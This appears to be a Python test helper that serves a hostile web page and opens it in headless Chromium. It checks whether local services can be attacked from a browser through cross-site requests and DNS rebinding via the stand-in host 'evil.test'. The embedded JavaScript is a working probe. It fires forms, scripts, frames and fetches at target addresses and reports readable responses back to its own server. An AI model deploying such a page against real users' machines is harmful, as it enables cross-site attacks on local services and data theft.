"""A web page of someone else's, open in a real browser on the operator's machine.

It tries all that a page can do with addresses that it knows, and tells its own server what it could
read. What it changed is for the test to look at.
"""

import json
import shutil
import subprocess
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from fix_stack import cannot_run

LIMIT_SECONDS = 90
# A name that its owner made to point at the address that is asked (DNS rebinding).
NAME = "evil.test"
PAGE = """<!doctype html><meta charset=utf-8><title>kittens</title><body><script>
const attempts = %s;
const read = [];
const timely = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 4000))]);
const settled = (element) => timely(new Promise((done) => {
  element.onload = element.onerror = done;
  document.body.append(element);
}));
const tries = {
  image: ({ url }) => settled(Object.assign(new Image(), { src: url })),
  script: ({ url }) => settled(Object.assign(document.createElement("script"), { src: url })),
  frame: ({ url }) => settled(Object.assign(document.createElement("iframe"), { src: url })),
  form: ({ url, body }) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    const form = Object.assign(document.createElement("form"),
      { action: url, method: "post", target: frame.name });
    const field = Object.assign(document.createElement("input"), { name: "payload", value: body });
    form.append(field);
    document.body.append(form);
    const done = settled(frame);
    form.submit();
    return done;
  },
  blind: ({ url, method, body }) => timely(fetch(url, { mode: "no-cors",
    method: method === "GET" ? "GET" : "POST", body: method === "GET" ? undefined : body })),
  open: async ({ url, method, body }) => {
    const options = { method };
    if (method === "POST") {
      options.body = body;
      options.headers = { "Content-Type": "application/json" };
    }
    const answer = await timely(fetch(url, options));
    if (answer) read.push(url + " " + answer.status);
  },
};
(async () => {
  for (const [kind, attempt] of Object.entries(tries)) {
    const fit = attempts.filter((one) => kind !== "form" || one.method === "POST");
    await Promise.allSettled(fit.map(attempt));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(read) });
})();
</script>"""


class Page:
    """The page with its server; a context manager. `attempts`: url, method, body each."""

    def __init__(self, attempts):
        self.attempts = attempts
        self.read = None
        # Whether somebody was made to ask for /probed here.
        self.probed = False
        self._reported = threading.Event()
        page = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                page.probed |= self.path == "/probed"
                text = PAGE % json.dumps(page.attempts)
                self._answer(text.encode() if self.path == "/page" else b"")

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                page.read = json.loads(body)
                self._answer(b"")
                page._reported.set()

            def _answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        # The prober in a container would come by the bridge.
        self._server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)  # noqa: S104
        self.port = self._server.server_port

    def __enter__(self):
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self._server.shutdown()
        self._server.server_close()

    def open(self):
        """Have a browser open the page; return what the page could read, when it has done all."""
        url = f"http://{NAME}:{self.port}/page"
        with Browser("127.0.0.1", url):
            assert self._reported.wait(LIMIT_SECONDS), "the page told nothing"
        return self.read


class Browser:
    """Chromium at an address, while the name of the page's owner points to another."""

    def __init__(self, points_to, url, *options):
        program = shutil.which("chromium")
        if program is None:
            cannot_run("no chromium: apt-get install chromium")
        self._profile = tempfile.mkdtemp(prefix="teal-browser-")
        self._command = [
            program, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-dev-shm-usage", f"--user-data-dir={self._profile}",
            f"--host-resolver-rules=MAP {NAME} {points_to}", *options, url,
        ]  # fmt: skip

    def __enter__(self):
        self._process = subprocess.Popen(
            self._command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        return self

    def __exit__(self, *_):
        self._process.terminate()
        try:
            self._process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.wait()
        shutil.rmtree(self._profile, ignore_errors=True)

    def text(self):
        """Return what the browser shows at the address, when it has loaded."""
        command = [*self._command[:-1], "--dump-dom", self._command[-1]]
        result = subprocess.run(
            command, capture_output=True, text=True, check=True, timeout=LIMIT_SECONDS
        )
        shutil.rmtree(self._profile, ignore_errors=True)
        return result.stdout
